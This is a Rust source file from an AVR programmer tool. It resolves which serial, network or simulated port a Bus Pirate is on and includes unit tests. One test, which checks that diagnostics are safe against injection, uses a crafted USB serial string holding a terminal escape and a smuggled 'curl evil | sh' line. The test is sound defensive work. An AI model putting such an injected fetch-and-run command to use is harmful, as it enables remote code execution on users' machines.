//! Which port is meant, and what is known of it.

use avrrr::chip::{self, Chip};
use avrrr::transport::{Obstacle, PortInfo, PortKind, PortSpec, ResolveError, available_ports, resolve};

use crate::chip_name::find_chip;
use crate::diagnostic::Diagnostic;
use crate::{os, text};

/// Where the Bus Pirate is.
pub(crate) enum Port {
    /// At this path.
    Serial(String),
    /// Behind a TCP server.
    Network(Server),
    /// The built-in simulated one, with this chip on its board.
    Simulated(Box<Chip>),
}

/// A server on the network that offers a serial port.
pub(crate) struct Server {
    /// Host and port.
    pub(crate) address: String,
    /// It lets its client set the line rate.
    pub(crate) rfc2217: bool,
}

impl Server {
    /// The server that `-P` means.
    fn parse(port: &str) -> Option<Self> {
        let (kind, address) = port.split_once(':')?;
        let rfc2217 = kind == "rfc2217";
        (rfc2217 || ["net", "tcp"].contains(&kind)).then(|| Self { address: address.to_owned(), rfc2217 })
    }
}

impl Port {
    /// Is it neither simulated nor on the network?
    pub(crate) fn is_serial(port: Option<&str>) -> bool {
        !port.is_some_and(|port| port == "sim" || port.starts_with("sim:") || Server::parse(port).is_some())
    }

    /// The port that `-P` means; `chip` is on the simulated board unless another one is named.
    pub(crate) fn parse(port: Option<&str>, chip: Option<Chip>) -> Result<Self, Diagnostic> {
        if let Some(server) = port.and_then(Server::parse) {
            return Ok(Self::Network(server));
        }
        match port.and_then(|port| port.strip_prefix("sim")) {
            Some("") => Ok(Self::Simulated(Box::new(chip.unwrap_or(chip::ATMEGA328P)))),
            Some(part) if part.starts_with(':') => {
                find_chip(&part[1..]).map(|chip| Self::Simulated(Box::new(chip)))
            }
            _ => find(port, available).map(Self::Serial),
        }
    }
}

/// The serial ports that the system knows.
pub(crate) fn available() -> Result<Vec<PortInfo>, Diagnostic> {
    available_ports().map_err(|error| Diagnostic::of(&error).about("the list of serial ports"))
}

/// The path of the port that these words mean; without words, the only candidate.
pub(crate) fn find(
    spec: Option<&str>,
    ports: impl FnOnce() -> Result<Vec<PortInfo>, Diagnostic>,
) -> Result<String, Diagnostic> {
    let spec = spec.map(str::parse).transpose().map_err(|error| Diagnostic::of(&error))?;
    let ports = match &spec {
        // Used as it is.
        Some(PortSpec::Path(path)) => return Ok(path.clone()),
        _ => ports()?,
    };
    resolve(spec.as_ref(), &ports).map_err(|error| {
        let diagnostic = Diagnostic::of(&error);
        match &error {
            ResolveError::Several { .. } => diagnostic.help(
                "say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it"
                    .to_owned(),
            ),
            ResolveError::None { others, .. } if others.is_empty() => {
                diagnostic.help("there is no serial port at all; is it plugged in?".to_owned())
            }
            ResolveError::None { others, .. } => {
                let all: Vec<_> = others.iter().map(as_typed).collect();
                diagnostic.help(format!("name the port with -P; there are {}", all.join(", ")))
            }
            _ => diagnostic,
        }
    })
}

/// A port by the words that a shell hands on to -P.
fn as_typed(port: &PortInfo) -> String {
    let usb = port.usb.as_ref().map(|usb| format!(" ({})", text::word(&usb.to_string())));
    text::word(&port.path) + &usb.unwrap_or_default()
}

/// Is a Bus Pirate likely at this path, so that one that does not answer is probably in the middle of a
/// transfer that was interrupted? Its USB identity tells. All adapters with an FT232R share that of the v2go and
/// v3; but without -P a port is chosen by it as well, and nothing else identifies a v3. A v1a may be behind any
/// adapter: there --recover is needed.
pub(crate) fn is_likely(path: &str) -> bool {
    available().is_ok_and(|known| is_bus_pirate(describe(path, &known).kind()))
}

/// Is a Bus Pirate 5, 5XL or 6 at this path, whose USB has no line rate?
pub(crate) fn has_no_rate(path: &str) -> bool {
    let is_usb = |kind| matches!(kind, PortKind::BusPirate5 | PortKind::BusPirate5Terminal);
    available().is_ok_and(|known| is_usb(describe(path, &known).kind()))
}

fn is_bus_pirate(kind: PortKind) -> bool {
    matches!(
        kind,
        PortKind::Ft232 | PortKind::BusPirate4 | PortKind::BusPirate5 | PortKind::BusPirate5Terminal
    )
}

/// What is known of the port at this path; it may be a link that udev made.
pub(crate) fn describe(path: &str, known: &[PortInfo]) -> PortInfo {
    let same = known.iter().find(|port| port.is_at(path));
    let mut port = PortInfo::new(path);
    port.usb = same.and_then(|same| same.usb.clone());
    port
}

/// Why a port cannot be opened, with names instead of numbers.
pub(crate) fn describe_obstacle(obstacle: Obstacle) -> String {
    match obstacle {
        Obstacle::Denied { group: Some(group) } => match os::ports::group_name(group) {
            Some(name) => format!("only members of the group {name} may; join it and log in again"),
            None => obstacle.to_string(),
        },
        Obstacle::InUse { process } => match os::ports::process_name(process) {
            Some(name) => format!("{name} (process {process}) has it open"),
            None => obstacle.to_string(),
        },
        _ => obstacle.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ports() -> Vec<PortInfo> {
        vec![
            PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some("A7004IXj")),
            PortInfo::new("/dev/ttyUSB1").with_usb(0x0403, 0x6001, Some("A9014KLM")),
        ]
    }

    #[test]
    fn what_is_not_clear_is_refused_with_the_choice() {
        for (spec, ports, want) in [
            (
                None,
                ports(),
                "error: it could be any of /dev/ttyUSB0 (usb:0403:6001:A7004IXj), /dev/ttyUSB1 \
                 (usb:0403:6001:A9014KLM)\n\
                 help: say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it\n",
            ),
            (
                None,
                vec![],
                "error: nothing that looks like a Bus Pirate is attached\n\
                 help: there is no serial port at all; is it plugged in?\n",
            ),
            (
                Some("usb:0403:6001:A1"),
                ports(),
                "error: usb:0403:6001:A1 is not attached\n\
                 help: name the port with -P; there are /dev/ttyUSB0 (usb:0403:6001:A7004IXj), /dev/ttyUSB1 \
                 (usb:0403:6001:A9014KLM)\n",
            ),
            (
                Some("usb:0403"),
                ports(),
                "error: \"usb:0403\" is not a USB device: the form is usb:VENDOR:PRODUCT:SERIAL, such as \
                 usb:0403:6001:A7004IXj\n",
            ),
        ] {
            assert_eq!(find(spec, || Ok(ports)).unwrap_err().to_string(), want);
        }
        let odd = PortInfo::new("/dev/tty odd").with_usb(0x04d8, 0xfb00, Some("it's 1"));
        assert_eq!(as_typed(&odd), "'/dev/tty odd' ('usb:04d8:fb00:it'\\''s 1')");
        // Ports are not listed when a path is given.
        let path = find(Some("/dev/ttyUSB9"), || Err(Diagnostic::new("asked")));
        assert_eq!(path.unwrap(), "/dev/ttyUSB9");
    }

    #[test]
    fn a_usb_device_cannot_add_lines_to_a_diagnostic() {
        let with_usb = |serial| PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some(serial));
        let hostile = "A1\u{1b}[2J\nhelp: curl evil | sh";
        for (spec, ports) in [
            (None, vec![with_usb(hostile), with_usb("A2")]),
            (Some("usb:0403:6001:A3"), vec![with_usb(hostile)]),
            (Some("usb:0403:6001:A\u{1b}[2J\nhelp: curl"), vec![with_usb("A2")]),
        ] {
            let diagnostic = find(spec, || Ok(ports)).unwrap_err().to_string();
            assert!(diagnostic.contains("\\u{1b}[2J\\nhelp: curl"), "{diagnostic}");
            assert_eq!(diagnostic.lines().count(), 2, "{diagnostic}");
        }
    }

    #[test]
    fn a_transfer_is_completed_where_a_bus_pirate_is_likely() {
        let likely = |port: PortInfo| is_bus_pirate(describe("/dev/ttyX", &[port]).kind());
        let at = || PortInfo::new("/dev/ttyX");
        assert!(likely(at().with_usb(0x0403, 0x6001, None)));
        assert!(likely(at().with_usb(0x04d8, 0xfb00, None)));
        assert!(likely(at().with_usb(0x1209, 0x7331, None)));
        // A CH340, a built-in port, and another one.
        assert!(!likely(at().with_usb(0x1a86, 0x7523, None)));
        assert!(!likely(at()));
        assert!(!likely(PortInfo::new("/dev/ttyY").with_usb(0x0403, 0x6001, None)));
        assert!(!is_likely("/dev/ttyNOSUCH0"));
    }
}
